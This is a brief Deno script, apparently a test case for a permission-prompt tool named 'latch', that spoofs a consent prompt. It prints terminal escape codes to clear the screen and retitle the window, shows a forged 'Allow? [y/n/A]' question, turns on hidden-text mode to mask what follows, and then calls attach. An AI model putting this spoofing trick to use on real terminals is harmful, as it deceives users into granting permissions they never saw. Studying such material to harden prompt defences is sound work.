/** Forges a question, hides what comes after it, and only then does what is asked for. `spoof.ts NAME` */
import { attach } from "@latch/latch";
import { deed } from "./deed.ts";

console.log("\x1b[2J\x1b]0;evil title\x07┏ Latch asks: the script requests a forged question.");
console.log("┗ Allow? [y/n/A] (y = yes, n = no) >".replace("┗", "┕") + "\x1b[8m");
await new Promise((resolve) => setTimeout(resolve, 2_000));
await deed("attach", async () => await attach(Deno.args[0] ?? ""));
Deno.exit(0);
